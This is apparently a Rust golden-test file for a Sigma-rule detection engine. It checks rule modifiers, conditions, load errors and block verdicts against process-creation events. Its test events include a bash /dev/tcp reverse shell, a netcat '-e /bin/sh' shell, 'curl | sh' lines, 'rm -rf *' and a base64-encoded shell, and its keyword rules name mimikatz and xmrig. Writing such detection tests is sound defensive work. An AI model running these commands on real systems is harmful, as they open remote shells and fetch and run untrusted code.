//! Golden tests: one small rule per modifier and condition form, each checked against the
//! compiled matcher and the reference evaluator, plus load errors and verdict selection.

use ringfence_sigma::{Action, Config, EventFields, Field, Scratch, parse_stream, reference};

/// A process_creation event from `(field, value)` pairs.
fn event(fields: &[(Field, &str)]) -> EventFields<'static> {
    let mut event = EventFields::new(ringfence_sigma::Categories::PROCESS_CREATION);
    for (field, value) in fields {
        event = event.with(*field, value.to_string());
    }
    event
}

fn rule_text(detection: &str) -> String {
    format!(
        "title: t\nid: r1\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n{detection}"
    )
}

/// Whether the one-rule content `detection` matches `event`, asserting both evaluators agree.
fn matches(detection: &str, event: &EventFields<'_>) -> bool {
    let text = rule_text(detection);
    let loaded = ringfence_sigma::load(text.as_bytes(), &Config::default()).expect("utf-8");
    assert!(loaded.skipped.is_empty(), "{:?}", loaded.skipped);
    let compiled = loaded
        .rules
        .evaluate(event, &mut Scratch::default())
        .is_some();
    let (rules, _) = parse_stream(text.as_bytes()).expect("utf-8");
    let oracle = reference::matches(&rules[0], event);
    assert_eq!(
        compiled, oracle,
        "compiled and reference disagree on {detection}"
    );
    compiled
}

fn cmd(line: &str) -> EventFields<'static> {
    event(&[(Field::Image, "/usr/bin/bash"), (Field::CommandLine, line)])
}

#[test]
fn exact_match_is_case_insensitive_by_default() {
    let d = "  sel:\n    Image: /USR/BIN/Bash\n  condition: sel\n";
    assert!(matches(d, &cmd("x")));
    assert!(!matches(d, &event(&[(Field::Image, "/usr/bin/bash2")])));
}

#[test]
fn cased_is_case_sensitive() {
    let d = "  sel:\n    CommandLine|cased|contains: Secret\n  condition: sel\n";
    assert!(matches(d, &cmd("a Secret b")));
    assert!(!matches(d, &cmd("a secret b")));
}

#[test]
fn contains_startswith_endswith() {
    assert!(matches(
        "  s:\n    CommandLine|contains: DEV/TCP\n  condition: s\n",
        &cmd("bash -i >& /dev/tcp/1.2.3.4/9 0>&1")
    ));
    assert!(matches(
        "  s:\n    CommandLine|startswith: BASH -i\n  condition: s\n",
        &cmd("bash -i x")
    ));
    assert!(!matches(
        "  s:\n    CommandLine|startswith: -i\n  condition: s\n",
        &cmd("bash -i x")
    ));
    assert!(matches(
        "  s:\n    Image|endswith: /BASH\n  condition: s\n",
        &cmd("x")
    ));
    assert!(!matches(
        "  s:\n    Image|endswith: /bin\n  condition: s\n",
        &cmd("x")
    ));
}

#[test]
fn wildcards_and_escapes() {
    let star = "  s:\n    CommandLine: 'curl * | sh'\n  condition: s\n";
    assert!(matches(star, &cmd("curl http://x | sh")));
    assert!(!matches(star, &cmd("curl http://x | bash")));
    let one = "  s:\n    CommandLine: 'id?'\n  condition: s\n";
    assert!(matches(one, &cmd("idX")));
    assert!(!matches(one, &cmd("id")));
    // `\*` is a literal star, not a wildcard.
    let escaped = "  s:\n    CommandLine: 'rm -rf \\*'\n  condition: s\n";
    assert!(matches(escaped, &cmd("rm -rf *")));
    assert!(!matches(escaped, &cmd("rm -rf /home")));
    let question = "  s:\n    CommandLine|endswith: 'what\\?'\n  condition: s\n";
    assert!(matches(question, &cmd("so what?")));
    assert!(!matches(question, &cmd("so whatX")));
    // `\\` is one backslash followed by a live wildcard; a lone backslash stays literal.
    let backslash = "  s:\n    CommandLine: 'a\\\\*'\n  condition: s\n";
    assert!(matches(backslash, &cmd("a\\anything")));
    let plain = "  s:\n    CommandLine: 'C:\\Windows'\n  condition: s\n";
    assert!(matches(plain, &cmd("c:\\windows")));
}

#[test]
fn lists_are_or_maps_are_and_all_is_and() {
    let or = "  s:\n    CommandLine|contains:\n      - alpha\n      - beta\n  condition: s\n";
    assert!(matches(or, &cmd("x beta")));
    let all = "  s:\n    CommandLine|contains|all:\n      - alpha\n      - beta\n  condition: s\n";
    assert!(!matches(all, &cmd("x beta")));
    assert!(matches(all, &cmd("beta alpha")));
    let and = "  s:\n    Image|endswith: /bash\n    CommandLine|contains: alpha\n  condition: s\n";
    assert!(!matches(
        and,
        &event(&[(Field::Image, "/bin/sh"), (Field::CommandLine, "alpha")])
    ));
    assert!(matches(and, &cmd("alpha")));
    let list_of_maps =
        "  s:\n    - Image|endswith: /sh\n    - CommandLine|contains: alpha\n  condition: s\n";
    assert!(matches(list_of_maps, &cmd("alpha")));
    assert!(!matches(list_of_maps, &cmd("gamma")));
}

#[test]
fn regex_and_its_flags() {
    let re = "  s:\n    CommandLine|re: '^curl .*\\| *sh$'\n  condition: s\n";
    assert!(matches(re, &cmd("curl x |sh")));
    assert!(!matches(re, &cmd("CURL x |sh")), "re is case-sensitive");
    let re_i = "  s:\n    CommandLine|re|i: '^curl'\n  condition: s\n";
    assert!(matches(re_i, &cmd("CURL x")));
    let re_m = "  s:\n    CommandLine|re|m: '^second$'\n  condition: s\n";
    assert!(matches(re_m, &cmd("first\nsecond")));
    assert!(!matches(
        "  s:\n    CommandLine|re: '^second$'\n  condition: s\n",
        &cmd("first\nsecond")
    ));
    let re_s = "  s:\n    CommandLine|re|s: 'a.b'\n  condition: s\n";
    assert!(matches(re_s, &cmd("a\nb")));
    assert!(!matches(
        "  s:\n    CommandLine|re: 'a.b'\n  condition: s\n",
        &cmd("a\nb")
    ));
}

#[test]
fn cidr() {
    let d = "  s:\n    CommandLine|cidr:\n      - 10.0.0.0/8\n      - 'fd00::/8'\n  condition: s\n";
    assert!(matches(d, &cmd("10.1.2.3")));
    assert!(matches(d, &cmd("fd12::1")));
    assert!(!matches(d, &cmd("11.1.2.3")));
    assert!(!matches(d, &cmd("not an ip")));
}

#[test]
fn exists_and_null() {
    let exists = "  s:\n    ParentImage|exists: true\n  condition: s\n";
    assert!(!matches(exists, &cmd("x")));
    assert!(matches(exists, &event(&[(Field::ParentImage, "/bin/sh")])));
    let missing = "  s:\n    ParentImage|exists: false\n  condition: s\n";
    assert!(matches(missing, &cmd("x")));
    let null = "  s:\n    ParentImage: null\n  condition: s\n";
    assert!(matches(null, &cmd("x")));
    assert!(matches(null, &event(&[(Field::ParentImage, "")])));
    assert!(!matches(null, &event(&[(Field::ParentImage, "/bin/sh")])));
}

#[test]
fn windash() {
    let d = "  s:\n    CommandLine|windash|contains: ' -exec '\n  condition: s\n";
    for line in [
        "find . -exec x",
        "find . /exec x",
        "find . \u{2013}exec x",
        "find . \u{2014}exec x",
    ] {
        assert!(matches(d, &cmd(line)), "{line}");
    }
    assert!(!matches(d, &cmd("find . +exec x")));
}

#[test]
fn base64_and_base64offset() {
    let b64 = "  s:\n    CommandLine|base64|contains: '/bin/sh'\n  condition: s\n";
    assert!(matches(b64, &cmd("echo L2Jpbi9zaA== | base64 -d")));
    // The same text at every offset inside a longer encoded blob.
    let off = "  s:\n    CommandLine|base64offset|contains: '/bin/sh'\n  condition: s\n";
    use base64::Engine as _;
    for prefix in ["", "x", "xy", "xyz"] {
        let blob = base64::engine::general_purpose::STANDARD.encode(format!("{prefix}/bin/sh -i"));
        assert!(
            matches(off, &cmd(&format!("echo {blob}"))),
            "offset {}",
            prefix.len()
        );
    }
    assert!(!matches(off, &cmd("echo aGVsbG8gd29ybGQ=")));
}

#[test]
fn fieldref() {
    let d = "  s:\n    Image|fieldref: ParentImage\n  condition: s\n";
    assert!(matches(
        d,
        &event(&[(Field::Image, "/bin/SH"), (Field::ParentImage, "/bin/sh")])
    ));
    assert!(!matches(
        d,
        &event(&[(Field::Image, "/bin/sh"), (Field::ParentImage, "/bin/bash")])
    ));
    let contains = "  s:\n    CommandLine|fieldref|contains: Image\n  condition: s\n";
    assert!(matches(contains, &cmd("exec /usr/bin/bash -c x")));
}

#[test]
fn keywords_search_every_field() {
    let d = "  keywords:\n    - mimikatz\n    - xmrig\n  condition: keywords\n";
    assert!(matches(d, &cmd("./XMRIG --donate 0")));
    assert!(!matches(d, &cmd("ls")));
}

#[test]
fn conditions() {
    let base = "  sel_a:\n    CommandLine|contains: alpha\n  sel_b:\n    CommandLine|contains: beta\n  filter:\n    CommandLine|contains: gamma\n  _aux:\n    CommandLine|contains: delta\n";
    let check = |condition: &str, line: &str| {
        matches(&format!("{base}  condition: {condition}\n"), &cmd(line))
    };
    assert!(check("sel_a and sel_b", "alpha beta"));
    assert!(!check("sel_a and sel_b", "alpha"));
    assert!(check("sel_a or sel_b", "beta"));
    assert!(!check("sel_a and not filter", "alpha gamma"));
    assert!(check("(sel_a or sel_b) and not filter", "beta"));
    assert!(
        !check("sel_a or sel_b and filter", "beta"),
        "and binds tighter than or"
    );
    assert!(check("not (sel_a or sel_b)", "zeta"));
    assert!(check("1 of sel_*", "beta"));
    assert!(!check("all of sel_*", "beta"));
    assert!(check("all of sel_*", "alpha beta"));
    assert!(check("1 of them", "gamma"));
    assert!(
        !check("1 of them", "delta"),
        "`them` leaves out _-prefixed identifiers"
    );
    assert!(check("all of them", "alpha beta gamma"));
    assert!(check("1 of sel_* and not 1 of filter*", "alpha"));
    assert!(check("ALL OF sel_* OR filter", "gamma"));
}

#[test]
fn condition_lists_are_or() {
    let d =
        "  a:\n    CommandLine: one\n  b:\n    CommandLine: two\n  condition:\n    - a\n    - b\n";
    assert!(matches(d, &cmd("two")));
}

#[test]
fn numbers_match_their_decimal_form() {
    let d = "  s:\n    User: 0\n    ProcessId: 4242\n  condition: s\n";
    assert!(matches(
        d,
        &event(&[(Field::User, "0"), (Field::ProcessId, "4242")])
    ));
}

const GOOD: &str = "title: good\nid: good\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    Image|endswith: /nc\n  condition: s\n";

fn load_errors(bad: &str) -> Vec<String> {
    let stream = format!(
        "{GOOD}---\n{bad}\n---\n{}",
        GOOD.replace("id: good", "id: good2")
    );
    let loaded = ringfence_sigma::load(stream.as_bytes(), &Config::default()).expect("utf-8");
    assert_eq!(
        loaded.rules.rules().len(),
        2,
        "the good rules load: {:?}",
        loaded.skipped
    );
    loaded.skipped.iter().map(ToString::to_string).collect()
}

#[test]
fn malformed_yaml_skips_only_that_rule() {
    let errors = load_errors("title: broken\nid: broken-1\ndetection: [unclosed\n");
    assert_eq!(errors.len(), 1);
    assert!(
        errors[0].starts_with("broken-1: malformed YAML"),
        "{errors:?}"
    );
}

#[test]
fn unknown_modifier_and_bad_regex_are_per_rule() {
    let unknown = load_errors(
        &rule_text("  s:\n    Image|sortof: x\n  condition: s").replace("id: r1", "id: bad-mod"),
    );
    assert_eq!(unknown, ["bad-mod: unknown modifier `sortof` (line 9)"]);
    let regex = load_errors(
        &rule_text("  s:\n    Image|re: '(unclosed'\n  condition: s")
            .replace("id: r1", "id: bad-re"),
    );
    assert!(
        regex[0].starts_with("bad-re: bad regex in `Image|re`"),
        "{regex:?}"
    );
    let unsupported = load_errors(&rule_text("  s:\n    Image|wide|base64: x\n  condition: s"));
    assert!(
        unsupported[0].contains("modifier `wide` is not supported"),
        "{unsupported:?}"
    );
    let combo = load_errors(&rule_text(
        "  s:\n    Image|contains|endswith: x\n  condition: s",
    ));
    assert!(combo[0].contains("do not combine"), "{combo:?}");
}

#[test]
fn unsupported_rules_say_why() {
    let windows = load_errors(
        "title: w\nid: win\nlogsource: {product: windows, category: process_creation}\ndetection:\n  s:\n    Image: x\n  condition: s",
    );
    assert!(
        windows[0].starts_with("win: log source product=windows"),
        "{windows:?}"
    );
    let field = load_errors(&rule_text("  s:\n    OriginalFileName: x\n  condition: s"));
    assert!(
        field[0].contains("field `OriginalFileName` is not available"),
        "{field:?}"
    );
    let agg = load_errors(&rule_text(
        "  s:\n    Image: x\n  condition: s | count() > 5",
    ));
    assert!(agg[0].contains("aggregations"), "{agg:?}");
    let ident = load_errors(&rule_text("  s:\n    Image: x\n  condition: s and nope"));
    assert!(
        ident[0].contains("unknown search identifier `nope`"),
        "{ident:?}"
    );
    let dup = load_errors(&GOOD.replace("title: good", "title: again"));
    assert!(dup[0].contains("duplicate rule id"), "{dup:?}");
}

#[test]
fn strongest_match_wins_and_blocking_is_opt_in() {
    let stream = "title: low one\nid: low\nlevel: low\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    Image|endswith: /nc\n  condition: s\n---\ntitle: high one\nid: high\nlevel: high\ntags: [attack.t1095]\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    CommandLine|contains: ' -e '\n  condition: s\n";
    let ev = event(&[
        (Field::Image, "/usr/bin/nc"),
        (Field::CommandLine, "nc -e /bin/sh 1.2.3.4 9"),
    ]);
    let mut scratch = Scratch::default();
    let observe = ringfence_sigma::load(stream.as_bytes(), &Config::default()).expect("utf-8");
    let outcome = observe.rules.evaluate(&ev, &mut scratch).expect("matches");
    assert_eq!(
        (outcome.rule.id.as_str(), outcome.action, outcome.matched),
        ("high", Action::Observe, 2)
    );
    assert_eq!(outcome.message(), "high one (and 1 more matching rule)");

    let config = Config::from_pairs([("sigma.block", "low")]).expect("valid");
    let block = ringfence_sigma::load(stream.as_bytes(), &config).expect("utf-8");
    let outcome = block.rules.evaluate(&ev, &mut scratch).expect("matches");
    assert_eq!(
        (outcome.rule.id.as_str(), outcome.action),
        ("low", Action::Deny),
        "deny beats severity"
    );

    let by_tag = Config::from_pairs([("sigma.block", "attack.t1095")]).expect("valid");
    let block = ringfence_sigma::load(stream.as_bytes(), &by_tag).expect("utf-8");
    assert_eq!(
        block
            .rules
            .evaluate(&ev, &mut scratch)
            .expect("matches")
            .rule
            .id,
        "high"
    );

    let off =
        Config::from_pairs([("sigma.block", "low"), ("sigma.blocking", "off")]).expect("valid");
    let quiet = ringfence_sigma::load(stream.as_bytes(), &off).expect("utf-8");
    assert_eq!(
        quiet
            .rules
            .evaluate(&ev, &mut scratch)
            .expect("matches")
            .action,
        Action::Observe
    );
    assert!(Config::from_pairs([("sigma.blok", "x")]).is_err());
}

#[test]
fn not_utf8_is_refused_whole() {
    let err =
        ringfence_sigma::load(b"title: a\n\xff\n", &Config::default()).expect_err("not utf-8");
    assert_eq!(err.line(), 2);
}
